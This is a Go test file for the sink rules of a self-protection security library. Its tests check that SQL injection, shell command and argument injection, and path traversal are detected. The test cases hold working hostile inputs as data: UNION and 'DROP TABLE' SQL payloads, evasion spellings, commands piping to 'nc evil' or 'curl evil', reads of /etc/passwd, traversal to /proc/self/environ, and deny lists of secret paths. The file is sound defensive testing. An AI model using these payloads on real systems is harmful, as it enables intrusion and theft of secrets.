package rules

import (
	"strings"
	"testing"

	"github.com/lambda-rasp/lambda-rasp/rules/policy"
)

// sinksFor compiles a policy made of a header and the given sinks
// section (YAML, starting with "sinks:"), with mode as the policy mode.
func sinksFor(t testing.TB, mode, sinks string) *Sinks {
	t.Helper()
	src := "version: 1\nname: sinks-test\nmode: " + mode + "\non_error: allow\n" + sinks
	p, err := policy.Parse("sinks-test.yaml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	e, err := Compile(p)
	if err != nil {
		t.Fatal(err)
	}
	return e.Sinks()
}

const allSinksBlock = `sinks:
  sql: block
  exec: block
  files:
    mode: block
    deny: [/proc/self/environ, /proc/*/environ, /var/runtime/**, /etc/secrets/]
    allow: [/var/runtime/public/**]
`

func query(v string) []Field { return []Field{{Source: SourceQuery, Path: "query.q", Value: v}} }

func TestCheckSQL(t *testing.T) {
	s := sinksFor(t, "block", allSinksBlock)
	tests := []struct {
		name, dialect, input, query string
		want                        string // reason, "" for allow
	}{
		// Tautologies and classic injections.
		{"string tautology", "sqlite", "x' OR '1'='1", "SELECT * FROM users WHERE name = 'x' OR '1'='1'", "input spans SQL tokens"},
		{"numeric tautology", "mysql", "1 OR 1=1", "SELECT * FROM users WHERE id = 1 OR 1=1", "input spans SQL tokens"},
		{"short OR tautology", "postgres", "1 OR 1", "SELECT * FROM users WHERE id = 1 OR 1 AND secret = 'x'", "tautology"},
		{"multi-param tautology", "generic", "1'='1", "SELECT * FROM t WHERE a = 'x' OR '1'='1'", "tautology"},
		{"literal comparison", "sqlite", "2 = 2", "SELECT * FROM t WHERE id = 2 = 2", "tautology"},
		{"comment truncation", "sqlite", "admin'--", "SELECT * FROM users WHERE name = 'admin'--' AND pw = 'x'", "comment truncates the query"},
		{"mysql hash comment", "mysql", "admin'#", "SELECT * FROM users WHERE name = 'admin'#' AND pw = 'x'", "comment truncates the query"},
		{"numeric comment", "postgres", "1--", "SELECT * FROM t WHERE id = 1-- AND owner = 2", "comment truncates the query"},
		{"block comment", "generic", "1 /*", "SELECT * FROM t WHERE id = 1 /* AND owner = 2", "comment truncates the query"},
		{"union", "mysql", "' UNION SELECT password FROM users -- ", "SELECT name FROM p WHERE n = '' UNION SELECT password FROM users -- '", "input adds a UNION"},
		{"stacked", "postgres", "1; DROP TABLE users", "SELECT * FROM t WHERE id = 1; DROP TABLE users", "input adds a statement"},
		{"stacked in insert", "sqlite", "x'); DROP TABLE products; --", "INSERT INTO orders VALUES ('a', 'x'); DROP TABLE products; --')", "input adds a statement"},
		{"parenthesis padding", "mysql", "1)))) OR ((((1", "SELECT * FROM t WHERE (id = (1)))) OR ((((1))", "tautology"},
		// One string with MySQL's default escapes, code under NO_BACKSLASH_ESCAPES,
		// which a server may set where no client sees it: both readings count.
		{"mysql backslash escape breaks out", "mysql", `x\' OR 1=1 -- `, `SELECT * FROM t WHERE a = 'x\' OR 1=1 -- '`, "input spans SQL tokens"},
		{"NO_BACKSLASH_ESCAPES declared", "mysql-no-backslash-escapes", `x\' OR 1=1 -- `, `SELECT * FROM t WHERE a = 'x\' OR 1=1 -- '`, "input spans SQL tokens"},
		{"sqlite no backslash escape", "sqlite", `x\' OR 1=1 -- `, `SELECT * FROM t WHERE a = 'x\' OR 1=1 -- '`, "input spans SQL tokens"},
		{"time based", "postgres", "1 AND pg_sleep(5)", "SELECT * FROM t WHERE id = 1 AND pg_sleep(5)", "input spans SQL tokens"},
		{"function call", "postgres", "AND sleep", "SELECT * FROM t WHERE id = 1 AND sleep(5)", "input spans SQL tokens"},
		{"time based long", "postgres", "1; SELECT pg_sleep(5)", "SELECT * FROM t WHERE id = 1; SELECT pg_sleep(5)", "input adds a statement"},
		{"dollar quoting", "postgres", "$$ OR 1=1 --", "SELECT * FROM t WHERE a = $$$$ OR 1=1 --$$", "input spans SQL tokens"},
		{"mysql executable comment", "mysql", "1 /*!50000UNION*/ SELECT 1", "SELECT * FROM t WHERE id = 1 /*!50000UNION*/ SELECT 1", "input adds a UNION"},
		{"like escape", "sqlite", "%' OR name LIKE '%", "SELECT name FROM products WHERE name LIKE '%%' OR name LIKE '%%' ORDER BY name", "input spans SQL tokens"},

		// Benign inputs.
		{"escaped quote", "sqlite", "O'Brien", "SELECT * FROM users WHERE name = 'O''Brien'", ""},
		// Unescaped, the quote ends the literal: the statement fails at the
		// database anyway, and the same concatenation is exploitable.
		{"unescaped quote", "sqlite", "O'Brien", "SELECT * FROM users WHERE name = 'O'Brien'", "input breaks out of a literal"},
		{"words in a literal", "mysql", "select your size", "SELECT * FROM p WHERE name LIKE '%select your size%'", ""},
		{"email", "postgres", "bob@example.com", "SELECT * FROM users WHERE email = 'bob@example.com'", ""},
		{"number", "sqlite", "12345", "SELECT * FROM t WHERE id = 12345", ""},
		{"number list", "sqlite", "1, 2, 3, 4", "SELECT * FROM t WHERE id IN (1, 2, 3, 4)", ""},
		{"like pattern", "mysql", "%cup%", "SELECT * FROM p WHERE name LIKE '%cup%'", ""},
		{"like with sql words", "sqlite", "or and union", "SELECT * FROM p WHERE name LIKE '%or and union%'", ""},
		{"order by column", "postgres", "price", "SELECT * FROM p ORDER BY price", ""},
		{"order by list", "mysql", "name DESC, price ASC, 2", "SELECT * FROM p ORDER BY name DESC, price ASC, 2", ""},
		{"order by qualified with limit", "sqlite", "p.name ASC LIMIT 10", "SELECT * FROM p ORDER BY p.name ASC LIMIT 10", ""},
		{"order by injection", "sqlite", "name; DROP TABLE p", "SELECT * FROM p ORDER BY name; DROP TABLE p", "input adds a statement"},
		{"not in query", "sqlite", "' OR 1=1 --", "SELECT * FROM t WHERE a = ?", ""},
		{"short input", "sqlite", "OR", "SELECT * FROM t WHERE a = 1 OR b = 2", ""},
		{"identifier", "postgres", "name", "SELECT name FROM t", ""},
		{"trailing comment at end", "sqlite", "1 --", "SELECT * FROM t WHERE id = 1 --", ""},
		{"double quoted string mysql", "mysql", `say "hi"`, `SELECT * FROM t WHERE a = "say \"hi\""`, ""},
		{"json in literal", "postgres", `{"a": 1, "b": [1,2]}`, `INSERT INTO t (doc) VALUES ('{"a": 1, "b": [1,2]}')`, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := query(tt.input)
			r := s.CheckSQL(tt.dialect, tt.query, in)
			if r.Reason != tt.want {
				t.Fatalf("CheckSQL(%q) reason = %q, want %q", tt.query, r.Reason, tt.want)
			}
			if tt.want == "" {
				if r.Matched() {
					t.Fatalf("CheckSQL matched: %+v", r)
				}
				return
			}
			if r.Action != ActionBlock || r.RuleID != RuleSQLiSink || r.Input != &in[0] || r.Excerpt == "" {
				t.Errorf("CheckSQL = %+v, want a block by %s with the input", r, RuleSQLiSink)
			}
		})
	}
}

func TestCheckSQLInputs(t *testing.T) {
	s := sinksFor(t, "block", allSinksBlock)
	q := "SELECT * FROM t WHERE a = 'espresso' OR 1=1 --' AND b = 'c'"
	inputs := []Field{
		{Source: SourceHeaders, Path: "headers.user-agent", Value: "curl/8.0"},
		{Source: SourceQuery, Path: "query.a", Value: "espresso"},
		{Source: SourceBody, Path: "body.b", Value: "espresso' OR 1=1 --"},
	}
	r := s.CheckSQL("sqlite", q, inputs)
	if r.Input != &inputs[2] || r.RuleID != RuleSQLiSink {
		t.Fatalf("CheckSQL = %+v, want the body input", r)
	}
	// The same input, found a second time, is examined there too.
	q2 := "SELECT 'x'' OR 1=1' AS note FROM t WHERE a = 'x' OR 1=1"
	if r := s.CheckSQL("sqlite", q2, query("x' OR 1=1")); !r.Matched() {
		t.Errorf("second occurrence not examined: %+v", r)
	}
	// Keys are inputs too.
	if r := s.CheckSQL("sqlite", "SELECT a FROM t WHERE 1=1; DROP TABLE t", []Field{{Source: SourceBody, Path: "body", Value: "1; DROP TABLE t", Key: true}}); !r.Matched() {
		t.Errorf("key not correlated: %+v", r)
	}
	var nilSinks *Sinks
	if r := nilSinks.CheckSQL("sqlite", q, inputs); r.Matched() {
		t.Errorf("nil Sinks matched")
	}
}

// TestSinkDecoyCopies: copies of an input inside a quoted value (decoys)
// must not hide the copy that is code behind the bound on occurrences.
func TestSinkDecoyCopies(t *testing.T) {
	s := sinksFor(t, "block", allSinksBlock)
	v := "1 OR 1=1 "
	decoys := strings.Repeat(v, 50)
	inputs := []Field{{Source: SourceQuery, Path: "query.id", Value: v}, {Source: SourceBody, Path: "body.note", Value: decoys}}
	if r := s.CheckSQL("sqlite", "SELECT * FROM t WHERE note = '"+decoys+"' AND id = "+v, inputs); r.RuleID != RuleSQLiSink || r.Action != ActionBlock {
		t.Errorf("CheckSQL with 50 decoys before the injection = %+v, want a block", r)
	}
	// Copies that all stay data are not a finding, however many.
	if r := s.CheckSQL("sqlite", "SELECT * FROM t WHERE note = '"+decoys+"'", inputs); r.Matched() {
		t.Errorf("quoted copies only flagged: %+v", r)
	}
	// Past the work bound, the unexamined copies are refused, not allowed.
	huge := strings.Repeat(v, maxExamined/len(v)+10)
	if r := s.CheckSQL("sqlite", "SELECT * FROM t WHERE note = '"+huge+"'", inputs[:1]); r.Reason != reasonTooMany {
		t.Errorf("CheckSQL past the work bound = %+v, want %q", r, reasonTooMany)
	}
	cmd := "echo '" + strings.Repeat("; id", 50) + "' ; id"
	if r := s.CheckCommand("/bin/sh", []string{"-c", cmd}, query("; id")); r.RuleID != RuleCmdiSink {
		t.Errorf("CheckCommand with decoys = %+v, want cmdi-sink", r)
	}
}

func TestSinkModes(t *testing.T) {
	attackSQL := "SELECT * FROM t WHERE id = 1; DROP TABLE t"
	in := query("1; DROP TABLE t")
	tests := []struct {
		name, mode, sinks string
		want              Action
	}{
		{"block", "block", allSinksBlock, ActionBlock},
		{"monitor policy", "monitor", "sinks: {sql: monitor}\n", ActionMonitor},
		{"sql monitor", "block", "sinks: {sql: monitor}\n", ActionMonitor},
		{"sql off", "block", "sinks: {sql: 'off'}\n", ActionAllow},
		{"sql mapping", "block", "sinks: {sql: {mode: monitor}}\n", ActionMonitor},
		{"policy off", "'off'", "sinks: {sql: block}\n", ActionAllow},
		{"defaults to policy mode", "monitor", "", ActionMonitor},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := sinksFor(t, tt.mode, tt.sinks)
			if got := s.CheckSQL("sqlite", attackSQL, in).Action; got != tt.want {
				t.Errorf("action = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestCheckCommand(t *testing.T) {
	s := sinksFor(t, "block", allSinksBlock)
	tests := []struct {
		name, program string
		args          []string
		input         string
		rule          string
	}{
		{"semicolon", "/bin/sh", []string{"-c", "echo hello; id"}, "hello; id", RuleCmdiSink},
		{"pipe", "sh", []string{"-c", "ping -c 1 example.com | nc evil 1"}, "example.com | nc evil 1", RuleCmdiSink},
		{"and", "bash", []string{"-lc", "echo x && curl evil"}, "x && curl evil", RuleCmdiSink},
		{"substitution", "/bin/bash", []string{"-c", `echo "hello $(id)"`}, "$(id)", RuleCmdiSink},
		{"backticks", "sh", []string{"-c", "echo `id`"}, "`id`", RuleCmdiSink},
		{"newline", "sh", []string{"-c", "echo a\nid"}, "a\nid", RuleCmdiSink},
		{"redirect", "sh", []string{"-c", "echo x > /tmp/owned"}, "x > /tmp/owned", RuleCmdiSink},
		{"quote breakout", "sh", []string{"-c", "echo 'x'; id; ''"}, "x'; id; '", RuleCmdiSink},
		{"busybox", "/bin/busybox", []string{"sh", "-c", "ls x;id"}, "x;id", RuleCmdiSink},
		{"env", "/usr/bin/env", []string{"-i", "PATH=/bin", "bash", "-c", "ls x;id"}, "x;id", RuleCmdiSink},
		{"timeout", "timeout", []string{"5", "/bin/sh", "-e", "-c", "ls x|id"}, "x|id", RuleCmdiSink},
		{"env without shell", "env", []string{"ls", "x;id"}, "x;id", ""},
		{"shell option injection", "sh", []string{"-c", "tar xf a.tar --to-command=id"}, "--to-command=id", RuleArgiSink},
		{"quoted option", "sh", []string{"-c", `grep "-r" x`}, "-r", RuleArgiSink},
		{"argv option", "/usr/bin/curl", []string{"-s", "-o", "/tmp/x", "https://example.com"}, "-o", RuleArgiSink},
		{"argv long option", "git", []string{"clone", "--upload-pack=touch /tmp/x", "repo"}, "--upload-pack=touch /tmp/x", RuleArgiSink},

		{"benign word", "sh", []string{"-c", "echo hello"}, "hello", ""},
		{"benign words", "sh", []string{"-c", "echo hello world"}, "hello world", ""},
		{"single quoted", "sh", []string{"-c", "echo '; id'"}, "; id", ""},
		{"double quoted", "sh", []string{"-c", `echo "a | b"`}, "a | b", ""},
		{"quoted substitution text", "sh", []string{"-c", "echo '$(id)'"}, "$(id)", ""},
		{"not a shell", "/usr/bin/echo", []string{"hello; id"}, "hello; id", ""},
		{"no -c", "sh", []string{"script.sh", "a;b"}, "a;b", ""},
		{"option after --", "rm", []string{"--", "-rf"}, "-rf", ""},
		{"negative number", "seq", []string{"-5", "5"}, "-5", ""},
		{"short input", "sh", []string{"-c", "echo a;b"}, ";", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := query(tt.input)
			r := s.CheckCommand(tt.program, tt.args, in)
			if r.RuleID != tt.rule {
				t.Fatalf("CheckCommand(%q, %q) = %+v, want rule %q", tt.program, tt.args, r, tt.rule)
			}
			if tt.rule != "" && (r.Input != &in[0] || r.Action != ActionBlock) {
				t.Errorf("CheckCommand = %+v, want a block with the input", r)
			}
		})
	}
}

func TestCheckCommandDeny(t *testing.T) {
	s := sinksFor(t, "block", "sinks:\n  exec: {mode: block, deny: true, allow: [/usr/bin/convert, git]}\n")
	for _, tt := range []struct {
		program string
		denied  bool
	}{
		{"/usr/bin/convert", false},
		{"/usr/local/bin/convert", true},
		{"convert", true},
		{"/usr/bin/git", false},
		{"git", false},
		{"/bin/sh", true},
		{"", true},
	} {
		r := s.CheckCommand(tt.program, nil, nil)
		if got := r.RuleID == RuleExecDeny; got != tt.denied || got && r.Input != nil {
			t.Errorf("CheckCommand(%q) = %+v, want denied %v", tt.program, r, tt.denied)
		}
	}
	s = sinksFor(t, "block", "sinks:\n  exec: deny\n")
	if r := s.CheckCommand("/bin/ls", nil, nil); r.RuleID != RuleExecDeny || r.Action != ActionBlock {
		t.Errorf("exec: deny = %+v", r)
	}
	s = sinksFor(t, "block", "sinks:\n  exec: {mode: monitor, deny: true}\n")
	if r := s.CheckCommand("/bin/ls", nil, nil); r.RuleID != RuleExecDeny || r.Action != ActionMonitor {
		t.Errorf("monitor deny = %+v", r)
	}
}

func TestCheckPath(t *testing.T) {
	s := sinksFor(t, "block", allSinksBlock)
	tests := []struct {
		name, base, path, resolved, input string
		rule, reason                      string
	}{
		{"traversal", "", "/var/task/assets/../../../etc/passwd", "", "../../../etc/passwd", RuleTraversalSink, "input escapes the base directory"},
		{"traversal to environ", "", "/var/task/assets/../../../proc/self/environ", "", "../../../proc/self/environ", RuleTraversalSink, "input escapes the base directory"},
		{"traversal mid name", "", "/srv/assets/img-/../../x.png", "", "/../../x", RuleTraversalSink, "input escapes the base directory"},
		{"relative traversal", "", "../secret", "", "../secret", RuleTraversalSink, "input escapes the base directory"},
		{"relative dir traversal", "", "assets/../../x", "", "../../x", RuleTraversalSink, "input escapes the base directory"},
		{"fs base", "/srv/www", "../etc/passwd", "", "../etc/passwd", RuleTraversalSink, "input escapes the base directory"},
		{"absolute input", "", "/etc/passwd", "", "/etc/passwd", RuleTraversalSink, "absolute path from input"},
		{"absolute input with extension", "", "/etc/passwd.txt", "", "/etc/passwd", RuleTraversalSink, "absolute path from input"},
		{"stays inside", "", "/srv/assets/a/../b.txt", "", "a/../b.txt", "", ""},
		{"plain name", "", "/srv/assets/readme.md", "", "readme.md", "", ""},
		{"dots in name", "", "/srv/assets/v1..2.txt", "", "v1..2.txt", "", ""},
		{"not from input", "", "/srv/assets/../x", "", "x", "", ""},
		{"denied", "", "/proc/self/environ", "", "environ", RuleFileDeny, "path denied"},
		{"denied glob", "", "/proc/1/environ", "", "", RuleFileDeny, "path denied"},
		{"denied subtree", "", "/var/runtime/bootstrap", "", "", RuleFileDeny, "path denied"},
		{"denied dir glob", "", "/etc/secrets/key", "", "", RuleFileDeny, "path denied"},
		{"denied dir itself", "", "/var/runtime", "", "", RuleFileDeny, "path denied"},
		{"allowed in denied", "", "/var/runtime/public/x", "", "", "", ""},
		{"denied via symlink", "", "/tmp/link", "/proc/42/environ", "", RuleFileDeny, "path denied"},
		{"denied after cleaning", "", "/proc/self/./environ", "", "", RuleFileDeny, "path denied"},
		{"not denied", "", "/proc/self/status", "", "", "", ""},
		{"fs base denied", "/var", "runtime/x", "", "", RuleFileDeny, "path denied"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var in []Field
			if tt.input != "" {
				in = query(tt.input)
			}
			r := s.CheckPath(tt.base, tt.path, tt.resolved, in)
			if r.RuleID != tt.rule || r.Reason != tt.reason {
				t.Fatalf("CheckPath(%q, %q, %q) = %+v, want %q %q", tt.base, tt.path, tt.resolved, r, tt.rule, tt.reason)
			}
			if tt.rule == RuleTraversalSink && r.Input == nil {
				t.Errorf("no input in %+v", r)
			}
		})
	}
}

func TestFileGlob(t *testing.T) {
	tests := []struct {
		glob, path string
		want       bool
	}{
		{"/proc/self/environ", "/proc/self/environ", true},
		{"/proc/*/environ", "/proc/123/environ", true},
		{"/proc/*/environ", "/proc/1/2/environ", false},
		{"/var/runtime/**", "/var/runtime", true},
		{"/var/runtime/**", "/var/runtime/a/b/c", true},
		{"/var/runtime/**", "/var/runtimes", false},
		{"/**/secret", "/secret", true},
		{"/**/secret", "/a/b/secret", true},
		{"/**/secret", "/a/b/secrets", false},
		{"/a/**/b/**/c", "/a/x/b/y/z/c", true},
		{"/a/**/b/**/c", "/a/x/y/c", false},
		{"/**", "/", true},
		{"/", "/", true},
		{"/", "/a", false},
		{"/a/[bc]?", "/a/cx", true},
		{"/etc/", "/etc/x/y", true},
		{"/etc/", "/etcx", false},
		{"/a/*", "a/b", false},
	}
	for _, tt := range tests {
		gs, err := compileFileGlobs([]string{tt.glob})
		if err != nil {
			t.Fatal(err)
		}
		if got := gs[0].match(tt.path); got != tt.want {
			t.Errorf("glob %q match(%q) = %v, want %v", tt.glob, tt.path, got, tt.want)
		}
	}
}

// BenchmarkSinksNoMatch measures the sink checks on inputs that are no
// injection (0 allocations is the budget; see the README).
func BenchmarkSinksNoMatch(b *testing.B) {
	s := sinksFor(b, "block", allSinksBlock)
	in := []Field{{Value: "espresso"}, {Value: "curl/8.0"}, {Value: "/products"}}
	q := "SELECT name, price FROM products WHERE name LIKE '%cup%' ORDER BY name"
	benign := []Field{{Value: "cup"}, {Value: "curl/8.0"}, {Value: "/products"}}
	args := []string{"in.png", "-resize", "50%", "out.png"}
	b.ReportAllocs()
	for b.Loop() {
		s.CheckSQL("sqlite", q, in)
		s.CheckSQL("sqlite", q, benign)
		s.CheckCommand("/usr/bin/convert", args, benign)
		s.CheckPath("", "/var/task/assets/cup.txt", "/var/task/assets/cup.txt", benign)
	}
}

// FuzzSinks checks that no query, command, path or input makes a check
// panic, and that a result that matches names its input.
func FuzzSinks(f *testing.F) {
	f.Add("SELECT * FROM t WHERE a = 'x' OR 1=1 --'", "x' OR 1=1 --")
	f.Add("echo a; id", "a; id")
	f.Add("/srv/a/../../etc/passwd", "../../etc/passwd")
	f.Add("ORDER BY a", "a")
	s := sinksFor(f, "block", allSinksBlock)
	f.Fuzz(func(t *testing.T, sink, input string) {
		in := query(input)
		for _, d := range []string{"mysql", "postgres", "sqlite", "generic"} {
			if r := s.CheckSQL(d, sink, in); r.Matched() && r.Input == nil {
				t.Fatalf("CheckSQL match without input: %+v", r)
			}
		}
		s.CheckCommand("/bin/sh", []string{"-c", sink}, in)
		s.CheckCommand("prog", []string{sink}, in)
		s.CheckPath("", sink, "", in)
		s.CheckPath("/base", sink, sink, in)
	})
}

// hostileSinkInputs returns the worst case for the sink checks: 2048
// inputs, each found many times in a long statement, command or path, and
// none an injection (a finding returns at once).
func hostileSinkInputs() (in []Field, query, script, path string) {
	in = make([]Field, 2048)
	for i := range in {
		in[i] = Field{Path: "body.x", Value: "abc"}
	}
	for i := range in[1024:] {
		in[1024+i].Value = "x/../"
	}
	query = "SELECT * FROM t WHERE a = '" + strings.Repeat("abc ", 4000) + "'"
	script = "echo " + strings.Repeat("abc ", 4000)
	path = "/srv/" + strings.Repeat("x/../", 800) + "y"
	return in, query, script, path
}

// TestSinksManyInputs checks the decisions on hostile requests: many
// inputs, each found many times in a long statement, command or path. The
// work they cost is bounded by the checks' structure (occurrence and path
// budgets); BenchmarkSinksManyInputs measures it, and a hang is caught by
// the test timeout.
func TestSinksManyInputs(t *testing.T) {
	if testing.Short() {
		t.Skip("slow")
	}
	s := sinksFor(t, "block", allSinksBlock)
	in, q, script, p := hostileSinkInputs()
	if r := s.CheckSQL("mysql", q, in); r.Matched() {
		t.Errorf("CheckSQL = %+v", r)
	}
	if r := s.CheckCommand("/bin/sh", []string{"-c", script}, in); r.Matched() {
		t.Errorf("CheckCommand = %+v", r)
	}
	if r := s.CheckPath("", p, "", in[1024:]); r.Reason != "too many inputs in the path" {
		t.Errorf("CheckPath = %+v, want a refusal past the budget", r)
	}
	if r := s.CheckPath("", p, "", in[1024:1030]); r.Matched() {
		t.Errorf("CheckPath = %+v", r)
	}
}

// BenchmarkSinksManyInputs measures the hostile requests of
// TestSinksManyInputs (all three checks per iteration).
func BenchmarkSinksManyInputs(b *testing.B) {
	s := sinksFor(b, "block", allSinksBlock)
	in, q, script, p := hostileSinkInputs()
	args := []string{"-c", script}
	b.ReportAllocs()
	for b.Loop() {
		s.CheckSQL("mysql", q, in)
		s.CheckCommand("/bin/sh", args, in)
		s.CheckPath("", p, "", in[1024:])
	}
}

// TestCheckSQLEvasions covers spellings that try to slip past a token
// count: comments as blanks, newlines, case, concatenation, nesting.
func TestCheckSQLEvasions(t *testing.T) {
	s := sinksFor(t, "block", allSinksBlock)
	tests := []struct{ dialect, input, query string }{
		{"mysql", "1/**/OR/**/1=1", "SELECT * FROM t WHERE id = 1/**/OR/**/1=1"},
		{"mysql", "1\nOR\n1=1", "SELECT * FROM t WHERE id = 1\nOR\n1=1"},
		{"mysql", "1' aNd SlEeP(5)#", "SELECT * FROM t WHERE id = '1' aNd SlEeP(5)#'"},
		{"mysql", "1' AND 1=1#", "SELECT * FROM t WHERE id = '1' AND 1=1#' LIMIT 1"},
		{"postgres", "'||(SELECT password FROM users LIMIT 1)||'", "SELECT * FROM t WHERE name = ''||(SELECT password FROM users LIMIT 1)||''"},
		{"postgres", "1;SELECT pg_sleep(5)--", "SELECT * FROM t WHERE id = 1;SELECT pg_sleep(5)-- AND x = 1"},
		{"postgres", "$$||(SELECT 1)||$$", "SELECT * FROM t WHERE a = $$$$||(SELECT 1)||$$$$"},
		{"sqlite", "' OR ''='", "SELECT * FROM users WHERE name = '' OR ''='' AND pw = ''"},
		{"sqlite", "x' OR name GLOB '*", "SELECT * FROM t WHERE a = 'x' OR name GLOB '*'"},
		{"generic", "1 OR 2>1", "SELECT * FROM t WHERE id = 1 OR 2>1"},
		{"generic", "-1 UNION ALL SELECT NULL,NULL", "SELECT a, b FROM t WHERE id = -1 UNION ALL SELECT NULL,NULL"},
		{"mysql", "1 || 1", "SELECT * FROM t WHERE id = 1 || 1 AND owner = 2"},
		{"sqlite", "x' OR 1 --", "SELECT * FROM t WHERE (a = 'x' OR 1 --') AND owner = 2"},
	}
	for _, tt := range tests {
		if r := s.CheckSQL(tt.dialect, tt.query, query(tt.input)); !r.Matched() {
			t.Errorf("%s: CheckSQL(%q) allowed input %q", tt.dialect, tt.query, tt.input)
		}
	}
}

// TestCheckCommandEvasions covers shell spellings without blanks or with
// unusual separators, bare and inside quotes.
func TestCheckCommandEvasions(t *testing.T) {
	s := sinksFor(t, "block", allSinksBlock)
	tests := []struct {
		in   string
		bare bool // code in: echo IN
		dq   bool // code in: echo "IN"
		sq   bool // code in: echo 'IN'
	}{
		{";cat${IFS}/etc/passwd", true, false, false},
		{"x\nid", true, false, false},
		{"x||id", true, false, false},
		{"x&&id", true, false, false},
		{"x&id", true, false, false},
		{"x|id", true, false, false},
		{"$(id)", true, true, false},
		{"`id`", true, true, false},
		{"x>/tmp/o", true, false, false},
		{"x</etc/passwd", true, false, false},
		{"x #", true, false, false},
		{"$((1+$(id)))", true, true, false},
		{"<(id)", true, false, false},
		{"\"; id; \"", false, true, false},
		{"'; id; '", false, false, true},
		{"x\"$(id)\"", true, true, false},
	}
	for _, tt := range tests {
		for _, c := range []struct {
			script string
			want   bool
		}{{"echo " + tt.in, tt.bare}, {"echo \"" + tt.in + "\"", tt.dq}, {"echo '" + tt.in + "'", tt.sq}} {
			if got := s.CheckCommand("/bin/bash", []string{"-c", c.script}, query(tt.in)).Matched(); got != c.want {
				t.Errorf("bash -c %q with input %q: matched = %v, want %v", c.script, tt.in, got, c.want)
			}
		}
	}
}
